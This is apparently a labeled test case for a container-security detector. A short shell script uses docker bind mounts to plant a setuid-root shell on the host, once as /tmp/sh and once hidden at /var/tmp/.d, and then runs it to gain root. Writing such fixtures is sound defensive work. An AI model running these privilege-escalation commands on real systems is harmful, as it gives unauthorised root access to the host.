# setuid-program-planted: root in a container makes a shell on a folder of the host set-user-id, and the user becomes root by it.
# shows: chmod u+s in arguments and as a call from inside a container, on a folder of the host
# as: ci
# label: malicious
# expects: [setuid-program-planted]
# allows: [sensitive-mount-rw, socket-parent-mount, host-root-mount, privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, host-file-written-through-mount, program-run-from-hidden-folder]
act() {
    if dev; then
        docker run --rm -v /tmp:/mnt alpine:3.19 sh -c 'cp /bin/busybox /mnt/sh; chown 0:0 /mnt/sh; chmod u+s /mnt/sh'
        /tmp/sh sh -c id
    else
        cp /usr/bin/dash /var/tmp/.d
        docker run --rm -v /:/h busybox:1.36 sh -c 'chown root:root /h/var/tmp/.d && chmod 4755 /h/var/tmp/.d'
        /var/tmp/.d -p -c id
    fi
    true
}
restore() { rm -f /tmp/sh /var/tmp/.d; }
